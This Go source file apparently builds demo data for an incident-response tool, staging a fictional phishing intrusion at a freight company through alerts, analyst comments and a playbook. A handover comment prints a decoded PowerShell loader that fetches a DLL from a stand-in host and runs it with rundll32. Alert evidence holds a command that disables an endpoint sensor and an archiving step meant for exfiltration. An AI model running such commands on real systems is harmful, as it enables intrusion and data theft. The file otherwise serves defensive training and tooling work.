package main

import (
	"time"

	"github.com/incidentkit/incidentkit/activity"
	"github.com/incidentkit/incidentkit/alert"
	"github.com/incidentkit/incidentkit/classification"
	"github.com/incidentkit/incidentkit/incident"
)

// Who works at the freight company of the story.
var (
	mira     = activity.Actor{ID: "mira@example.com", Name: "Mira"}
	jonas    = activity.Actor{ID: "jonas@example.com", Name: "Jonas"}
	playbook = activity.Actor{Kind: activity.App, ID: "isolate-device", Name: "Isolation playbook"}
)

// typical is an attack in stages: a mail, a document, stolen credentials, another machine and an upload that is
// blocked. Two products see it, two people work it.
func typical(d *desk) {
	alerts := phished()
	d.ingest(alerts[:2]...)
	d.edit(4*time.Minute, mira, incident.Edit{Owner: &incident.Owner{ID: mira.ID, Name: mira.Name}, Status: new(incident.InProgress)})
	d.comment(6*time.Minute, mira, "Erin opened the invoice at 08:14 and clicked **Enable content**. The mail went to *fourteen* mailboxes; "+
		"the gateway has taken back twelve, two had been forwarded by a rule.\n\nThis is what she saw:\n\n![The document asks to enable content](attachment:invoice.png)",
		incident.Image{Name: "invoice.png", Data: png(screenshot(800, 500))})
	d.ingest(alerts[2:6]...)
	d.edit(3*time.Minute, mira, incident.Edit{AddTags: []string{"Finance", "Phishing"}, Description: new(
		"A mail with an invoice that carries a macro reached the accounts department. From the workstation on which it was opened, " +
			"the attacker took credentials and went on to a file server.")})
	d.ingest(alerts[6:8]...)
	beacon := d.ingest(beaconing())
	d.ingest(alerts[8])
	d.edit(2*time.Minute, playbook, incident.Edit{AddTags: []string{"Isolated"}})
	d.comment(0, playbook, "Isolated from the network: `ws-0417.example.com`, `fs-02.example.com`.")
	d.comment(7*time.Minute, jonas, handover)
	d.comment(time.Minute, jonas, "The password of svc-backup was Autumn-Leaves-9; it is changed now.")
	d.redact(2*time.Minute, mira, "a password")
	d.merge(5*time.Minute, jonas, beacon, "sync.parcel-mail.example stands on the address that the upload went to.")
	d.edit(time.Minute, jonas, incident.Edit{Name: new("Invoice phishing with theft of credentials and attempted exfiltration")})
	d.editAlerts(2*time.Minute, jonas, incident.AlertEdit{Status: new(alert.StatusResolved), Verdict: &classification.Verdict{
		Classification: classification.FalsePositive, Determination: classification.NotMalicious,
	}}, alerts[5])
	d.comment(20*time.Minute, mira, "Both machines are **installed anew**, and nothing has spoken to 198.51.100.77 since 10:21. "+
		"What we take from it:\n\n1. Macros in files from outside are off for everybody, not for most.\n"+
		"2. svc-backup may sign in to the backup server alone.\n3. The gateway asks before it lets `.docm` pass.\n")
	d.edit(10*time.Minute, mira, incident.Edit{
		Status: new(incident.Resolved),
		Verdict: &classification.Verdict{
			Classification: classification.TruePositive, Determination: classification.MultiStagedAttack,
		},
		Note: new("Contained before anything left the network: 1.2 GB were packed, the upload was blocked after 40 kB. Both machines were installed " +
			"anew, four passwords changed, the sender and both domains blocked. The clerk reported the mail herself; thank her."),
	})
}

const handover = `## Where we stand at 10:30

| Machine | What was found | State |
|---|---|---|
| ws-0417 | macro, loader, dump of LSASS | isolated |
| fs-02 | remote service, archive of 1.2 GB | isolated |
| dc-01 | queries only | watched |

The loader decodes to this; the domain is four days old:

` + "```powershell" + `
$u = 'https://cdn.parcel-status.example/u/7f3a'
$p = Join-Path $env:TEMP 'parcel.dll'
Invoke-WebRequest $u -OutFile $p
rundll32 $p,Track
` + "```" + `

The clerk wrote to the service desk at once:

> I opened an invoice that I did not expect. It wanted me to enable something, and then
> nothing happened. Please have a look.

Still to do:

- change the passwords of **svc-backup** and of everybody who signed in to ws-0417 since Friday
  - Erin, done
  - Paul, done
- look for the task *ParcelSync* on all other workstations
- tell the carrier whose name was used, see the [runbook](https://runbooks.example.com/phishing#third-parties)
`

// What the attack touches.
var (
	erin = alert.User{
		UPN: "erin@example.com", Account: "erin", Domain: "EXAMPLE", DisplayName: "Erin, accounts",
		SID: "S-1-5-21-1111111111-2222222222-333333333-1604",
	}
	paul       = alert.User{UPN: "paul@example.com", Account: "paul", Domain: "EXAMPLE", DisplayName: "Paul, dispatch"}
	backup     = alert.User{UPN: "svc-backup@example.com", Account: "svc-backup", Domain: "EXAMPLE", DisplayName: "Backup service"}
	accounts   = alert.Mailbox{Address: "accounts@example.com", DisplayName: "Accounts"}
	ws0417     = alert.Device{DNSName: "ws-0417.example.com", OS: "Windows11", OSVersion: "24H2", Group: "Workstations", LastIP: "192.0.2.117", Risk: "high"}
	ws0533     = alert.Device{DNSName: "ws-0533.example.com", OS: "Windows11", OSVersion: "24H2", Group: "Workstations", LastIP: "192.0.2.133"}
	fileserver = alert.Device{DNSName: "fs-02.example.com", OS: "WindowsServer2022", Group: "Servers", LastIP: "192.0.2.12", Risk: "high"}
	dc01       = alert.Device{DNSName: "dc-01.example.com", OS: "WindowsServer2022", Group: "Servers", LastIP: "192.0.2.10"}

	invoice   = alert.File{FileName: "Invoice_2026-03_4471.docm", Path: `C:\Users\erin\Downloads`, SHA256: digest(1), Size: 184_320}
	loader    = alert.File{FileName: "parcel.dll", Path: `C:\Users\erin\AppData\Local\Temp`, SHA256: digest(2), Size: 412_672}
	dump      = alert.File{FileName: "d.dmp", Path: `C:\Windows\Temp`, SHA256: digest(3), Size: 61_204_480}
	archive   = alert.File{FileName: "q1.7z", Path: `D:\Shares\Finance`, SHA256: digest(4), Size: 1_288_490_188}
	service   = alert.File{FileName: "parcelsvc.exe", Path: `C:\Windows`, SHA256: digest(5), Size: 98_304}
	dropSite  = alert.URL{URL: "https://cdn.parcel-status.example/u/7f3a"}
	dropPoint = alert.IP{Address: "198.51.100.77"}
)

// phished returns the alerts of the attack but one.
func phished() []alert.Alert {
	at := func(hour, minute int) time.Time { return time.Date(2026, 3, 9, hour, minute, 0, 0, time.UTC) }
	run := func(image string, pid int64, as alert.User, command string, started time.Time) alert.Process {
		return alert.Process{Image: alert.File{FileName: image}, PID: pid, User: as, CommandLine: command, Started: started}
	}
	return []alert.Alert{
		mail.raise("mg-20931", at(7, 52), 3*time.Minute, alert.Alert{
			Title: "Phishing mail with a macro document was delivered", Category: "InitialAccess", Techniques: []string{"T1566.001"},
			Severity: alert.Medium, Threat: "ParcelLoader",
			Description: "A mail that says it brings an invoice was delivered to 14 mailboxes before its attachment was judged. The sender's " +
				"domain was registered four days ago and resembles that of a carrier.",
			RecommendedActions: "Take the mail back from all mailboxes. Ask the recipients whether they opened the attachment. Block the sender's domain.",
			Evidence: []alert.Evidence{
				asset(accounts, alert.Attacked), asset(erin, alert.Attacked),
				found(alert.Message{
					NetworkMessageID: "4f0d6a52-77c1-4be0-9d7e-2f1f2c3a9b10", Subject: "Invoice 4471 for shipment DE-88120, due on receipt",
					Sender: "billing@parcel-status.example", SenderIP: "203.0.113.24", Recipient: "accounts@example.com", Delivery: "delivered", Location: "inbox", Received: at(7, 52),
				}, alert.Malicious, alert.PartiallyRemediated),
				found(alert.MailCluster{By: "attachment", Value: "Invoice_2026-03_4471.docm", Count: 14}, alert.Malicious, alert.PartiallyRemediated),
				found(alert.IP{Address: "203.0.113.24"}, alert.Suspicious, alert.NotRemediated, alert.Source),
				found(invoice, alert.Malicious, alert.PartiallyRemediated),
			},
		}),
		endpoint.raise("es-70012", at(8, 14), 90*time.Second, alert.Alert{
			Title: "An Office document started PowerShell with an encoded command", Category: "Execution", Techniques: []string{"T1204.002", "T1059.001"},
			Severity: alert.Medium,
			Description: "WINWORD.EXE started powershell.exe with a command of 1,914 characters in Base64. The command fetched a library from the " +
				"Internet and loaded it with rundll32.exe.",
			RecommendedActions: "Isolate the device. Collect the document and the library. Find out which credentials were used on the device.",
			Evidence: []alert.Evidence{
				asset(ws0417, alert.Compromised), asset(erin), found(invoice, alert.Malicious, alert.ActiveThreat),
				found(run("powershell.exe", 6120, erin, "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "+
					"JAB1ACAAPQAgACcAaAB0AHQAcABzADoALwAvAGMAZABuAC4AcABhAHIAYwBlAGwA", at(8, 14)), alert.Malicious, alert.ActiveThreat),
				found(loader, alert.Malicious, alert.ActiveThreat, alert.Created),
				found(dropSite, alert.Malicious, alert.NotRemediated, alert.CommandAndControl),
			},
		}),
		endpoint.raise("es-70015", at(8, 31), time.Minute, alert.Alert{
			Title: "A script made a scheduled task that starts at every sign-in", Category: "Persistence", Techniques: []string{"T1053.005"}, Severity: alert.Low,
			Description: `The task \ParcelSync starts rundll32.exe with the library that was loaded before.`,
			Evidence: []alert.Evidence{
				asset(ws0417, alert.Compromised), found(loader, alert.Malicious, alert.ActiveThreat, alert.Loaded),
				found(alert.Registry{
					Hive: "HKEY_LOCAL_MACHINE", Key: `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\ParcelSync`,
				}, alert.Suspicious, alert.NotRemediated, alert.Added),
			},
		}),
		endpoint.raise("es-70019", at(8, 36), time.Minute, alert.Alert{
			Title: "An attempt to stop the sensor was prevented", Category: "DefenseEvasion", Techniques: []string{"T1562.001"}, Severity: alert.Medium,
			Description: "A process without a signature tried to stop the service of the sensor, and then to change its start type.",
			Evidence: []alert.Evidence{
				asset(ws0417, alert.Compromised), asset(erin),
				found(run("sc.exe", 7204, erin, "sc.exe config endpointsensor start= disabled", at(8, 36)), alert.Malicious, alert.Prevented),
			},
		}),
		endpoint.raise("es-70024", at(8, 58), 2*time.Minute, alert.Alert{
			Title: "The memory of LSASS was read", Category: "CredentialAccess", Techniques: []string{"T1003.001"}, Severity: alert.High,
			Description: "rundll32.exe opened lsass.exe with the right to read its memory and wrote a file of 58 MB. Whoever signed in to this device " +
				"since it was started must be taken for compromised.",
			RecommendedActions: "Change the passwords of all accounts that have signed in, those of services first.",
			Evidence: []alert.Evidence{
				asset(ws0417, alert.Compromised), asset(erin, alert.Compromised), asset(backup, alert.Compromised),
				found(run("rundll32.exe", 7388, erin, `rundll32.exe C:\Users\erin\AppData\Local\Temp\parcel.dll,Track`, at(8, 15)), alert.Malicious, alert.ActiveThreat),
				found(dump, alert.Suspicious, alert.NotRemediated, alert.Created),
			},
		}),
		endpoint.raise("es-70027", at(9, 12), 6*time.Minute, alert.Alert{
			Title: "A workstation listed accounts and machines of the domain", Category: "Discovery", Techniques: []string{"T1018", "T1087.002"}, Severity: alert.Informational,
			Description: "In six minutes 1,260 objects were read from the directory. The inventory does so every Monday, though from another machine.",
			Evidence:    []alert.Evidence{asset(ws0417, alert.Source), asset(dc01, alert.Scanned), asset(erin)},
		}),
		endpoint.raise("es-70033", at(9, 31), 2*time.Minute, alert.Alert{
			Title: "A service was installed from another machine", Category: "LateralMovement", Techniques: []string{"T1021.002", "T1569.002"}, Severity: alert.High,
			Description:        "svc-backup signed in to fs-02 from ws-0417, which it never did before, and installed the service parcelsvc.",
			RecommendedActions: "Isolate both machines. Disable the account until its password is changed.",
			Evidence: []alert.Evidence{
				asset(fileserver, alert.Attacked), asset(ws0417, alert.Source), asset(backup, alert.Compromised),
				found(service, alert.Malicious, alert.ActiveThreat, alert.Created),
				found(run("parcelsvc.exe", 3316, alert.User{}, `C:\Windows\parcelsvc.exe -k share`, at(9, 32)), alert.Malicious, alert.ActiveThreat),
			},
		}),
		endpoint.raise("es-70038", at(9, 47), 11*time.Minute, alert.Alert{
			Title: "Many files were packed into an encrypted archive", Category: "Collection", Techniques: []string{"T1560.001"}, Severity: alert.Medium,
			Description: "2,214 files of the finance share were read and packed with a password within eleven minutes.",
			Evidence: []alert.Evidence{
				asset(fileserver, alert.Compromised), asset(backup, alert.Compromised), found(archive, alert.Suspicious, alert.Remediated, alert.Created),
				found(run("7z.exe", 3420, backup, `7z.exe a -mhe=on -p**** D:\Shares\Finance\q1.7z D:\Shares\Finance\2026\Q1`, at(9, 47)), alert.Suspicious, alert.Blocked),
			},
		}),
		endpoint.raise("es-70041", at(10, 5), 16*time.Minute, alert.Alert{
			Title: "A large upload to an unknown address was blocked", Category: "Exfiltration", Techniques: []string{"T1048.002"}, Severity: alert.High,
			Description:        "fs-02 began to send an archive of 1.2 GB to 198.51.100.77 over port 8443. The connection was cut after 40 kB, and so were eleven more.",
			RecommendedActions: "See to it that the archive did not leave by another way. Keep it: it says what the attacker was after.",
			Evidence: []alert.Evidence{
				asset(fileserver, alert.Source), asset(backup, alert.Compromised), found(archive, alert.Suspicious, alert.Remediated),
				found(dropPoint, alert.Malicious, alert.Blocked, alert.Destination),
			},
		}),
	}
}

// beaconing returns the alert that nothing connects to the attack until somebody looks up an address.
func beaconing() alert.Alert {
	return endpoint.raise("es-70030", time.Date(2026, 3, 9, 9, 24, 0, 0, time.UTC), 40*time.Minute, alert.Alert{
		Title: "Regular connections to a domain that nobody else visits", Category: "CommandAndControl", Techniques: []string{"T1071.001"}, Severity: alert.Medium,
		Description: "Every 61 to 67 seconds rundll32.exe sends 312 bytes to a domain that was never seen before.",
		Evidence: []alert.Evidence{
			asset(ws0533, alert.Compromised), asset(paul),
			found(alert.URL{URL: "https://sync.parcel-mail.example/t"}, alert.Suspicious, alert.NotRemediated, alert.CommandAndControl),
		},
	})
}
